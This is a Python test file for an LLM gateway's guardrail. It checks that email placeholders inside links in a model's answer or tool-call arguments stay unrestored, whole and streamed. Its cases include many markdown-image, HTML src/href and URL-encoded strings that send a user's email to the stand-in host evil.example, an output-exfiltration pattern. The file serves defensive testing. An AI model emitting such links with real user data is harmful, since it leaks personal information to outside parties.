"""Issue 15, restore's two gaps: a placeholder the answer puts inside a link (a URL, a markdown
link or image target, an HTML ``href``/``src``, a URL-encoded context) stays a placeholder
unless the plan says ``pii.restore_in_links: true``, with a ``restore_in_link`` finding; and
tool calls' arguments are restored too, JSON-escaped, with the same link rule, whole and
streamed, through the official SDKs in the chat, messages and Responses shapes."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anthropic
import httpx
import openai
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from farebox.app import create_app
from farebox.config.guardrails import guardrail_policy
from farebox.config.settings import parse_settings
from farebox.core.guardrails import Hit
from farebox.core.usage import Usage, to_openai
from farebox.errors import ConfigError
from farebox.gateway.guard_output import IN_LINK, AnswerGuard
from farebox.guardrails import links, pii_patterns
from farebox.guardrails.link_state import AngleState
from farebox.guardrails.links import SPACES, WINDOW, in_link, run_start
from farebox.guardrails.placeholders import Redactor
from farebox.providers.base import ChatRequest, ChatResult, StreamItem, UsageReport
from tests.conftest import ADMIN_KEY, Gateway
from tests.guard_world import EMAIL, MODEL, EchoMock, asgi, config, plan

PII = {"mode": "redact", "restore": True, "engine": "builtin"}
PLANS = {
    "restore": plan({"pii": PII, "secrets": {"mode": "redact"}}),
    "links": plan({"pii": {**PII, "restore_in_links": True}}),
}
EVIL = "https://evil.example"
# (what the model wrote, whether its placeholder sits in a link)
CASES = [
    ("Hello <EMAIL_1>, bye.", False),
    ("Mail: <EMAIL_1>", False),
    ("(<EMAIL_1>)", False),
    ("[docs](https://docs.example) <EMAIL_1>", False),
    ("write\n<EMAIL_1>", False),
    ("İİ the data is <EMAIL_1>", False),
    (f"see {EVIL}/?q=<EMAIL_1>", True),
    (f"![x]({EVIL}/<EMAIL_1>)", True),
    ("[me](<EMAIL_1>)", True),
    (f"[a](<{EVIL}/a b <EMAIL_1>>)", True),
    (f'<img alt="x" src="{EVIL}/p?a=1 <EMAIL_1>">', True),
    ("<a href=//evil.example/<EMAIL_1>>", True),
    ("İ <IMG SRC = <EMAIL_1>>", True),
    ("evil.example/?q=<EMAIL_1>", True),
    ("www.<EMAIL_1>.evil.example", True),
    ("https%3A%2F%2Fevil.example%3Fq%3D<EMAIL_1>", True),
    ("mailto:<EMAIL_1>", True),
    (f"see {EVIL}/?q=\u00a0<EMAIL_1>", True),  # a no-break space does not end a URL
    (f"[1]: {EVIL}/<EMAIL_1>", True),  # a markdown reference definition
    ("style='background:url(<EMAIL_1>)'", True),
    ("x" * WINDOW + "<EMAIL_1>", True),  # no space in the whole window: never trusted
    # review finding 1: markdown destinations with spaces, on the next line, escaped breaks
    (f"[r]: <{EVIL}/?q= <EMAIL_1>>\n\n![a][r]", True),
    (f"![a](\n<{EVIL}/?q= <EMAIL_1>>)", True),
    (f"![a]({EVIL}/?q=\\\n<EMAIL_1>)", True),
    (f"![a]\n[r]\n\n[r]:\n<{EVIL}/?q= <EMAIL_1>>", True),
    ("[me](\n<EMAIL_1>)", True),
    ("[r]: <EMAIL_1>", True),
    ("[a] (x <EMAIL_1>)", True),  # an unclosed ( after ]: taken as a link
    (f"[a](<{EVIL}/?q= [b](c) <EMAIL_1>>)", True),  # a target closed inside an open one
    ("[a](x [b](<y )) <EMAIL_1>>)", True),
    ("<x-app:<EMAIL_1>>", True),  # an autolink, any scheme
    ("<evil?body=<EMAIL_1>>", True),
    (f'<img src="{EVIL}/?x=1&href=x <EMAIL_1>">', True),  # an attribute inside a value
    (f"<a href=\n'{EVIL}/?a= <EMAIL_1>'>", True),
    (f"[a](<{EVIL}/?q=" + " x" * WINDOW + " <EMAIL_1>>)", True),  # opened before the window
    ("word " * (WINDOW // 5 + 1) + "<EMAIL_1>", False),  # a long line alone is no link
    ("[1]: https://docs.example\nWrite to <EMAIL_1>", False),
    ('[1]: https://docs.example "Docs"\n\nWrite to <EMAIL_1>', False),
    ('[docs](https://docs.example "t")\nWrite to <EMAIL_1>', False),
    ("- [x] done, <EMAIL_1>", False),
    ("[a](x\n\n(see <EMAIL_1>)", False),  # a blank line closes a target
    ("Contact: <<EMAIL_1>>", False),  # the value alone, as a mailto autolink
    ("<b>bold</b> <EMAIL_1>", False),
]
ANSWER = (
    f"Hello <EMAIL_1>. ![x]({EVIL}/<EMAIL_1>) see {EVIL}/?q=<EMAIL_1> "
    f'<img src="{EVIL}/p?<EMAIL_1>"> [me](mailto:<EMAIL_1>) bye <EMAIL_1>'
)
WANT = ANSWER.replace("Hello <EMAIL_1>", f"Hello {EMAIL}").replace("bye <EMAIL_1>", f"bye {EMAIL}")
ARGS = json.dumps({"to": "<EMAIL_1>", "body": f'Hi <EMAIL_1>, "see" {EVIL}/?q=<EMAIL_1>\\ok'})
WANT_ARGS = {"to": EMAIL, "body": f'Hi {EMAIL}, "see" {EVIL}/?q=<EMAIL_1>\\ok'}
LINK_FINDING = {"detector": "pii", "category": IN_LINK, "action": "flagged", "where": "output"}


def redactor(*values: str) -> Redactor:
    r = Redactor()
    for value in values:
        category = "EMAIL_ADDRESS" if "@" in value else "PHONE_NUMBER"
        r.redact(value, [Hit("pii", category, 1.0, 0, len(value))])
    return r


# the rule -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("answer", "linked"), CASES)
def test_a_placeholder_in_a_link_is_kept_and_counted(answer: str, linked: bool) -> None:
    r = redactor(EMAIL)
    out, kept = r.restored(answer, links=False)
    assert (out, kept) == ((answer, 1) if linked else (answer.replace("<EMAIL_1>", EMAIL), 0))
    assert r.restored(answer, links=True) == (answer.replace("<EMAIL_1>", EMAIL), 0)
    assert in_link(answer[: answer.index("<EMAIL_1>")]) is linked


@pytest.mark.parametrize(
    ("arguments", "linked"),
    [
        ('{"to":"<EMAIL_1>"}', False),
        ('{"tel":"<EMAIL_1>","site":"www.example.org"}', False),  # a key is no scheme
        ('{"b":"line\\n<EMAIL_1>"}', False),  # an escaped newline ends a run
        ('{"b":"say \\"<EMAIL_1>\\""}', False),
        ('{"url":"https://e.example/?q=<EMAIL_1>"}', True),
        ('{"md":"![x](https://e.example/\\\\<EMAIL_1>)"}', True),
        ('{"html":"<img src=\\"//e.example/<EMAIL_1>\\">"}', True),
        # review finding 3: JSON escapes are decoded before the rule reads the string
        ('{"u":"\\/\\/e.example\\/?q=<EMAIL_1>"}', True),
        ('{"u":"e.example\\/?q=<EMAIL_1>"}', True),
        ('{"u":"https\\u003a\\u002f\\u002fe.example\\u002f?q=<EMAIL_1>"}', True),
        ('{"md":"[r]:\\n<https://e.example/?q= <EMAIL_1>>"}', True),
        ('{"b":"say\\u0020<EMAIL_1>"}', False),
    ],
)
def test_tool_arguments_keep_linked_placeholders_and_stay_json(
    arguments: str, linked: bool
) -> None:
    value = 'Jo "Q" \\ Public@example.com'  # a value that needs escaping inside a JSON string
    r = Redactor()
    r.redact(value, [Hit("pii", "EMAIL_ADDRESS", 1.0, 0, len(value))])
    out, kept = r.restored(arguments, links=False, json=True)
    assert kept == int(linked)
    parsed, source = json.loads(out), json.loads(arguments)
    want = {k: v if linked else v.replace("<EMAIL_1>", value) for k, v in source.items()}
    assert parsed == want


def test_an_escaped_quote_at_the_window_edge_is_no_opening_quote() -> None:
    # the window starts with the quote of a ``\\"``: the string's run is too long to trust
    before = '{"u":"' + "a" * 10 + '\\"' + "b" * (WINDOW - 1)
    assert before[-WINDOW:].startswith('"')
    assert in_link(before, json=True) is True
    assert in_link('{"u":"' + "a b" * WINDOW + '"x":"', json=True) is False


def test_a_bad_restore_in_links_stops_start_up(tmp_path: Path) -> None:
    def load(pii: dict[str, Any]) -> Any:
        plans = {"p": {"models": ["*"], "guardrails": {"pii": pii}}}
        data = {"database": f"sqlite:///{tmp_path / 'f.db'}",
                "providers": {"sim": {"kind": "mock"}}, "plans": plans}  # fmt: skip
        return parse_settings(data, source="test.yaml", env={"FAREBOX_ADMIN_KEY": "x" * 40},
                              base_dir=tmp_path)  # fmt: skip

    for bad in ({**PII, "restore_in_links": "sometimes"}, {"mode": "redact",
                                                            "restore_in_links": True}):  # fmt: skip
        with pytest.raises(ConfigError) as caught:
            load(bad)
        assert "restore_in_links" in caught.value.message and "test.yaml" in caught.value.message
    assert guardrail_policy(load(PII).file.plans["p"].guardrails).pii.restore_in_links is False
    on = load({**PII, "restore_in_links": "on"}).file.plans["p"].guardrails
    assert guardrail_policy(on).pii.restore_in_links is True


# any split of a stream decides as the whole answer does -------------------------------------

PIECES = ["Hi ", "<EMAIL_1>", "<PHONE_1>", "<EMAIL_", "1>", "<", ">", " ", "\n", "x", "https://",
          "evil.example/", "?q=", "![x](", "](", "(", ")", '<a href="', '"', "'", "www.", "%2F",
          "mailto:", "url(", "\\", "src=", "é"]  # fmt: skip
ANSWERS = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts})
    bounds = [0, *points, len(text)]
    return [text[a:b] for a, b in zip(bounds, bounds[1:], strict=False)]


def _chunks(text: str, calls: list[str], data: st.DataObject) -> list[dict[str, Any]]:
    """A chat stream of ``text`` and tool calls with ``calls`` as arguments, cut anywhere."""
    cuts = st.lists(st.integers(0, 10_000), max_size=12)
    deltas: list[dict[str, Any]] = [{"content": p} for p in _split(text, data.draw(cuts))]
    for i, arguments in enumerate(calls):
        opened = {"index": i, "id": f"call_{i}", "type": "function",
                  "function": {"name": "send", "arguments": ""}}  # fmt: skip
        deltas.append({"tool_calls": [opened]})
        deltas += [{"tool_calls": [{"index": i, "function": {"arguments": p}}]}
                   for p in _split(arguments, data.draw(cuts))]  # fmt: skip
    chunks = [{"choices": [{"index": 0, "delta": d, "finish_reason": None}]} for d in deltas]
    return [*chunks, {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ANSWERS, st.lists(ANSWERS, max_size=2), st.data())
def test_a_stream_cut_anywhere_restores_as_the_whole_answer(
    text: str, values: list[str], data: st.DataObject
) -> None:
    r = redactor(EMAIL, "+1 415 555 0100")
    calls = [json.dumps({"a": v, "b": [v, 1]}, ensure_ascii=False) for v in values]
    message = {"role": "assistant", "content": text,
               "tool_calls": [{"id": f"call_{i}", "type": "function",
                               "function": {"name": "send", "arguments": a}}
                              for i, a in enumerate(calls)]}  # fmt: skip
    whole = AnswerGuard(r.pii_only(), None, False)
    want = whole.chat_body({"choices": [{"index": 0, "message": message}]})["choices"][0]
    streamed = AnswerGuard(r.pii_only(), None, False)
    content, arguments = [], ["" for _ in calls]
    for chunk in _chunks(text, calls, data):
        delta = streamed.chat_chunk(chunk)["choices"][0]["delta"]
        content.append(delta.get("content") or "")
        for call in delta.get("tool_calls") or ():
            arguments[call["index"]] += call["function"]["arguments"]
    assert "".join(content) == want["message"]["content"]
    assert arguments == [c["function"]["arguments"] for c in want["message"]["tool_calls"]]
    for restored in arguments:
        json.loads(restored)  # still JSON
    assert streamed.findings == whole.findings
    assert streamed.held() == []


# through the HTTP app and the SDKs ----------------------------------------------------------


class ToolMock(EchoMock):
    """Answers ``answer`` and tool calls with ``calls`` (name, arguments), streamed ``step``
    characters at a time."""

    def __init__(self) -> None:
        super().__init__()
        self.answer = ""
        self.calls: list[tuple[str, str]] = []
        self.step = 3

    def _message(self) -> dict[str, Any]:
        calls = [{"id": f"call_{i}", "type": "function", "function": {"name": n, "arguments": a}}
                 for i, (n, a) in enumerate(self.calls)]  # fmt: skip
        return {"role": "assistant", "content": self.answer or None, "tool_calls": calls or None}

    async def chat(self, request: ChatRequest) -> ChatResult:
        self.bodies.append(request.body)
        usage = Usage(input_tokens=10, output_tokens=20)
        finish = "tool_calls" if self.calls else "stop"
        body = {"id": "chatcmpl-t", "object": "chat.completion", "created": 1, "model": MODEL,
                "usage": to_openai(usage), "choices": [
                    {"index": 0, "message": self._message(), "finish_reason": finish}]}  # fmt: skip
        return ChatResult(body, usage)

    def _pieces(self, text: str) -> list[str]:
        return [text[i : i + self.step] for i in range(0, len(text), self.step)]

    def _deltas(self) -> list[dict[str, Any]]:
        out: list[dict[str, Any]] = [{"content": p} for p in self._pieces(self.answer or "")]
        for i, (name, arguments) in enumerate(self.calls):
            out.append({"tool_calls": [{"index": i, "id": f"call_{i}", "type": "function",
                                        "function": {"name": name, "arguments": ""}}]})  # fmt: skip
            pieces = self._pieces(arguments)
            out += [{"tool_calls": [{"index": i, "function": {"arguments": p}}]} for p in pieces]
        return out

    async def chat_stream(self, request: ChatRequest) -> AsyncIterator[StreamItem]:
        self.bodies.append(request.body)
        base = {"id": "chatcmpl-t", "object": "chat.completion.chunk", "created": 1, "model": MODEL}
        yield {
            **base,
            "choices": [{"index": 0, "delta": {"role": "assistant"}, "finish_reason": None}],
        }
        for delta in self._deltas():
            yield {**base, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}
        finish = "tool_calls" if self.calls else "stop"
        yield {**base, "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]}
        usage = Usage(input_tokens=10, output_tokens=20)
        yield UsageReport(usage, {**base, "choices": [], "usage": to_openai(usage)})


class CutMock(ToolMock):
    """Streams its answer cut at the given points (``cuts``), the same for every text."""

    def __init__(self, cuts: list[int]) -> None:
        super().__init__()
        self.cuts = cuts

    def _pieces(self, text: str) -> list[str]:
        return _split(text, self.cuts)


@contextlib.asynccontextmanager
async def gateway(tmp: Path, mock: EchoMock) -> AsyncIterator[Gateway]:
    """A gateway of its own (a hypothesis example cannot share a test's fixture)."""
    data = {"database": f"sqlite:///{tmp / 'farebox.db'}", **config(PLANS)}
    env = {"FAREBOX_ADMIN_KEY": ADMIN_KEY}
    app = create_app(parse_settings(data, source="test.yaml", env=env, base_dir=tmp),
                     providers={"sim": mock}, announce=lambda _m: None)  # fmt: skip
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as client:
            yield Gateway(app, client, {"Authorization": f"Bearer {ADMIN_KEY}"})


def sdks(gw: Any, key: str) -> tuple[openai.AsyncOpenAI, anthropic.AsyncAnthropic]:
    oai = openai.AsyncOpenAI(api_key=key, base_url="http://gateway/v1", http_client=asgi(gw),
                             max_retries=0)  # fmt: skip
    claude = anthropic.AsyncAnthropic(api_key=key, base_url="http://gateway",
                                      http_client=asgi(gw), max_retries=0)  # fmt: skip
    return oai, claude


SAID = [{"role": "user", "content": f"I am {EMAIL}, mail me."}]
SCHEMA = {"type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}}
TOOLS = [{"type": "function", "function": {"name": "send_email", "parameters": SCHEMA}}]


async def chat_answer(oai: openai.AsyncOpenAI, stream: bool) -> tuple[str, list[str]]:
    """The text and the tool calls' arguments of a chat answer."""
    if not stream:
        done = await oai.chat.completions.create(model=MODEL, messages=SAID, tools=TOOLS)  # type: ignore[arg-type]
        message = done.choices[0].message
        return message.content or "", [c.function.arguments for c in message.tool_calls or ()]  # type: ignore[union-attr]
    text, arguments = [], ["", ""]
    chunks = await oai.chat.completions.create(model=MODEL, messages=SAID, tools=TOOLS,  # type: ignore[arg-type]
                                               stream=True)  # fmt: skip
    async for chunk in chunks:
        for choice in chunk.choices:
            text.append(choice.delta.content or "")
            for call in choice.delta.tool_calls or ():
                arguments[call.index] += (call.function.arguments if call.function else "") or ""
    return "".join(text), [a for a in arguments if a]


async def messages_answer(claude: anthropic.AsyncAnthropic, stream: bool) -> tuple[str, list[Any]]:
    tools = [{"name": "send_email", "input_schema": SCHEMA}]
    ask = {"model": MODEL, "max_tokens": 300, "messages": SAID, "tools": tools}
    if stream:
        async with claude.messages.stream(**ask) as s:  # type: ignore[arg-type]
            message = await s.get_final_message()
    else:
        message = await claude.messages.create(**ask)  # type: ignore[arg-type]
    text = "".join(b.text for b in message.content if b.type == "text")
    return text, [b.input for b in message.content if b.type == "tool_use"]


async def responses_answer(oai: openai.AsyncOpenAI, stream: bool) -> tuple[str, list[str]]:
    tools = [{"type": "function", "name": "send_email", "parameters": SCHEMA}]
    ask = {"model": MODEL, "input": SAID[0]["content"], "tools": tools, "store": False}
    if stream:
        final = None
        async for event in await oai.responses.create(**ask, stream=True):  # type: ignore[call-overload]
            if event.type == "response.completed":
                final = event.response
        assert final is not None
        out = final
    else:
        out = await oai.responses.create(**ask)  # type: ignore[call-overload]
    text = "".join(c.text for i in out.output if i.type == "message" for c in i.content)
    return text, [i.arguments for i in out.output if i.type == "function_call"]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("step", [1, 3, 7])
async def test_links_kept_and_tool_arguments_restored_through_the_sdks(
    make_gateway: Any, stream: bool, step: int
) -> None:
    mock = ToolMock()
    mock.answer, mock.calls, mock.step = ANSWER, [("send_email", ARGS)], step
    async with make_gateway(config(PLANS), providers={"sim": mock}) as gw:
        key = await gw.tenant_key("acme", plan="restore")
        oai, claude = sdks(gw, key)
        text, arguments = await chat_answer(oai, stream)
        assert text == WANT and [json.loads(a) for a in arguments] == [WANT_ARGS]
        text, inputs = await messages_answer(claude, stream)
        assert text == WANT and inputs == [WANT_ARGS]
        text, arguments = await responses_answer(oai, stream)
        assert text == WANT and [json.loads(a) for a in arguments] == [WANT_ARGS]
        assert EMAIL not in mock.sent()
        entries = await gw.ledger("acme")
        assert len(entries) == 3
        for entry in entries:
            found = [{k: f[k] for k in LINK_FINDING} for f in entry.guardrails]
            assert found.count(LINK_FINDING) == 1


@pytest.mark.parametrize("stream", [False, True])
async def test_a_link_free_answer_has_no_link_finding(make_gateway: Any, stream: bool) -> None:
    mock = ToolMock()
    mock.answer = "Done, <EMAIL_1>."
    mock.calls = [("send_email", json.dumps({"to": "<EMAIL_1>"}))]
    async with make_gateway(config(PLANS), providers={"sim": mock}) as gw:
        key = await gw.tenant_key("acme", plan="restore")
        oai, _ = sdks(gw, key)
        text, arguments = await chat_answer(oai, stream)
        assert text == f"Done, {EMAIL}." and [json.loads(a) for a in arguments] == [{"to": EMAIL}]
        (entry,) = await gw.ledger("acme")
        assert IN_LINK not in [f["category"] for f in entry.guardrails]


@pytest.mark.parametrize("stream", [False, True])
async def test_native_responses_restore_tool_arguments_and_keep_links(
    make_gateway: Any, stream: bool
) -> None:
    from fakes.responses_upstream import ResponsesUpstream, function_call, message

    async with ResponsesUpstream() as up:
        providers = {"native": {"kind": "openai", "base_url": up.base_url, "responses": "native"}}
        models = {MODEL: [{"provider": "native", "model": MODEL}]}
        cfg = {"providers": providers, "models": models, "plans": {"restore": PLANS["restore"]}}
        async with make_gateway(cfg) as gw:
            key = await gw.tenant_key("acme", plan="restore")
            oai, _ = sdks(gw, key)
            call = function_call("call_1", "send_email", json.loads(ARGS))
            pieces = [ANSWER[i : i + 4] for i in range(0, len(ANSWER), 4)]
            output = [message(*pieces), {**call, "id": "fc_up_2"}]
            (up.reply_events if stream else up.reply_response)(output)
            text, arguments = await responses_answer(oai, stream)
            assert text == WANT and [json.loads(a) for a in arguments] == [WANT_ARGS]
            assert EMAIL not in str(up.requests)
            (entry,) = await gw.ledger("acme")
            assert [f for f in entry.guardrails if f["category"] == IN_LINK] != []


@pytest.mark.parametrize("stream", [False, True])
async def test_restore_in_links_true_restores_everywhere(make_gateway: Any, stream: bool) -> None:
    mock = ToolMock()
    mock.answer, mock.calls = ANSWER, [("send_email", ARGS)]
    async with make_gateway(config(PLANS), providers={"sim": mock}) as gw:
        key = await gw.tenant_key("acme", plan="links")
        oai, _ = sdks(gw, key)
        text, arguments = await chat_answer(oai, stream)
        assert text == ANSWER.replace("<EMAIL_1>", EMAIL)
        assert json.loads(arguments[0])["body"].endswith(f"?q={EMAIL}\\ok")
        (entry,) = await gw.ledger("acme")
        assert IN_LINK not in [f["category"] for f in entry.guardrails]


def test_the_link_finding_never_carries_the_value() -> None:
    guard = AnswerGuard(redactor(EMAIL).pii_only(), lambda t: pii_patterns.scan(t, []), True)
    assert guard.text(f"{EVIL}/?q=<EMAIL_1>") == f"{EVIL}/?q=<EMAIL_1>"
    assert [f.json() for f in guard.findings] == [{**LINK_FINDING, "score": 1.0}]
    assert EMAIL not in repr(guard.findings)


async def _both_ways(tmp: Path, text: str, arguments: str, cuts: list[int]) -> None:
    mock = CutMock(cuts)
    mock.answer, mock.calls = text, [("send_email", arguments)]
    async with gateway(tmp, mock) as gw:
        oai, _ = sdks(gw, await gw.tenant_key("acme", plan="restore"))
        whole, streamed = await chat_answer(oai, False), await chat_answer(oai, True)
        assert streamed == whole
        json.loads(streamed[1][0])
        first, second = await gw.ledger("acme")
        assert first.guardrails == second.guardrails


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=ANSWERS.filter(bool), value=ANSWERS, cuts=st.lists(st.integers(0, 10_000), max_size=30))
def test_through_the_app_a_stream_cut_anywhere_answers_as_the_whole(
    text: str, value: str, cuts: list[int], tmp_path_factory: Any
) -> None:
    arguments = json.dumps({"to": "<EMAIL_1>", "body": value}, ensure_ascii=False)
    asyncio.run(_both_ways(tmp_path_factory.mktemp("g"), text, arguments, cuts))


# review 2, findings 1 and 3: a linear scan, and long lines restore again ---------------------

PROSE = "The quarterly report covers revenue, costs and the outlook for next year. " * 32


def _streamed(r: Redactor, text: str, cuts: list[int], json_mode: bool = False) -> tuple[str, int]:
    s = r.streaming(links=False, json=json_mode)
    bounds = [0, *sorted(c for c in cuts if 0 < c < len(text)), len(text)]
    out = "".join(s.feed(text[a:b]) for a, b in zip(bounds, bounds[1:], strict=False))
    return out + s.flush(), s.kept


@pytest.mark.parametrize(
    ("answer", "linked"),
    [
        (PROSE + "Write to <EMAIL_1>.", False),  # 2,400 characters on one line
        ('{"a": 1} ' + PROSE + "<b>x</b> <EMAIL_1>", False),
        (f"[a](<{EVIL}/?q= " + PROSE + "<EMAIL_1>>)", True),  # opened early on a long line
        (f"[r]:\n  <{EVIL}/?q= " + PROSE + "<EMAIL_1>>", True),
        (f"[a](<{EVIL}/?q=\\> " + PROSE + "<EMAIL_1>>)", True),  # an escaped > closes nothing
        ("[a](<x<ZIP_1> " + PROSE + "<EMAIL_1>>)", True),  # nor does a placeholder's
        (f"[a](<{EVIL}/?q=\n" + PROSE + "<EMAIL_1>>)", True),  # a line ending: the safe side
        (f"[a](<{EVIL}/> " + PROSE + "<EMAIL_1>", False),  # closed by its >
        (f"[a](<{EVIL}/?q=\n\n" + PROSE + "<EMAIL_1>", False),  # a blank line closes it
        ("[a](<ZIP_1>) " + PROSE + "<EMAIL_1>", False),  # a placeholder as the whole one
        (f"a < b ( {EVIL} ) " + PROSE + "<EMAIL_1>", False),  # a < after no ](
        (f'<img src="{EVIL}/?q= ' + PROSE + '<EMAIL_1>">', True),  # a value opened before
        (f"<a href = '{EVIL}/?q= " + PROSE + "<EMAIL_1>'>", True),  # the window: kept
        (f'<img src="{EVIL}/a.png"> ' + PROSE + "<EMAIL_1>", False),  # closed
        ("Say = and then the rest. " + PROSE + "<EMAIL_1>", False),  # no quote after the =
    ],
)
def test_a_long_line_restores_unless_an_angle_destination_is_open(
    answer: str, linked: bool
) -> None:
    r = redactor(EMAIL)
    assert len(answer) > WINDOW
    want = (answer, 1) if linked else (answer.replace("<EMAIL_1>", EMAIL), 0)
    assert r.restored(answer, links=False) == want
    assert in_link(answer[: answer.index("<EMAIL_1>")]) is linked
    assert _streamed(r, answer, list(range(0, len(answer), 7))) == want


@pytest.mark.parametrize(
    ("body", "linked"),
    [
        (PROSE + "Write to <EMAIL_1>.", False),  # a long string argument, no line break
        (f"[a](<{EVIL}/?q= " + PROSE + "<EMAIL_1>>)", True),
        (f"[a](\\u003c{EVIL}/?q= " + PROSE + "<EMAIL_1>>)", True),  # \u003c is a <
        (f"[a](<{EVIL}/?q=\\u003e " + PROSE + "<EMAIL_1>", False),  # and \u003e a >
    ],
)
def test_a_long_json_string_restores_unless_an_angle_destination_is_open(
    body: str, linked: bool
) -> None:
    r = redactor(EMAIL)
    args = '{"to": "x", "body": "' + body + '", "n": 1}'
    out, kept = r.restored(args, links=False, json=True)
    assert kept == int(linked)
    assert (EMAIL in json.loads(out)["body"]) is not linked
    assert _streamed(r, args, list(range(0, len(args), 11)), json_mode=True) == (out, kept)


STATE_PIECES = ["](", "]:", "] (", "]\r\n(", "<", ">", "\\", "\\\\", "(", ")", "[", " ", "\t",
                "\n", "\r", "\n\n", "\r\n", "<EMAIL_1>", "<A_1", "2>", "x", '"', "\\u003c",
                "\\u003e", "\\n", "=", " = ", "'", "`", '\\"', "\\u00"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(STATE_PIECES), max_size=60).map("".join),
    st.lists(st.integers(0, 200), max_size=8),
    st.booleans(),
)
def test_the_angle_state_is_the_same_whatever_the_splits(
    text: str, cuts: list[int], json_mode: bool
) -> None:
    whole = AngleState(json_mode).fed(text)
    parts = AngleState(json_mode)
    bounds = [0, *sorted(c for c in cuts if c < len(text)), len(text)]
    for a, b in zip(bounds, bounds[1:], strict=False):
        parts.feed(text[a:b])
    for window in (0, 5, 30):
        assert parts.inside(window) == whole.inside(window)
        for at in range(len(text) + 1):  # and a prefix's state is that prefix's alone
            fed = AngleState(json_mode).fed(text[:at])
            assert fed.inside(window) == in_link_angle(text[:at], json_mode, window)


def in_link_angle(before: str, json_mode: bool, window: int) -> bool:
    """The state read one character at a time (no skipping ahead)."""
    state = AngleState(json_mode)
    for c in before:
        state.feed(c)
    return state.inside(window)


def _run_start_reference(window: str) -> int:
    """The review's rule, read naively: after the last space not escaped by a backslash."""
    at = len(window) - 1
    while at >= 0 and not (window[at] in SPACES and (at == 0 or window[at - 1] != "\\")):
        at -= 1
    return at + 1


@given(st.lists(st.sampled_from(["\\", " ", "a", "\n", "\\ ", "\t", "\r", "\u00a0"]),
                max_size=40).map("".join))  # fmt: skip
def test_the_run_start_is_the_last_unescaped_space(window: str) -> None:
    assert run_start(window) == _run_start_reference(window)


@pytest.mark.parametrize("token", [">", "(", ")", "<", "\\", "\\ ", "x y", "\\x"])
@pytest.mark.parametrize("opened", ["[a]:x ", "[a](<x "])
def test_open_targets_read_only_the_tokens_that_change_them(
    token: str, opened: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Work, not time: 16 open targets (reference definitions, or ``<...>`` destinations)
    and a window of tokens after them. A target reads only the tokens that can change it:
    before, each token was read by every target (16 times 2,000)."""
    calls = []
    see = links._Target.see

    def counted(self: Any, text: str, kind: str, at: int) -> bool:
        calls.append(kind)
        return see(self, text, kind, at)

    monkeypatch.setattr(links._Target, "see", counted)
    in_link((opened * 16 + token * WINDOW)[:WINDOW], angle=False)
    assert 16 * 15 // 2 <= len(calls) <= 16 * 18
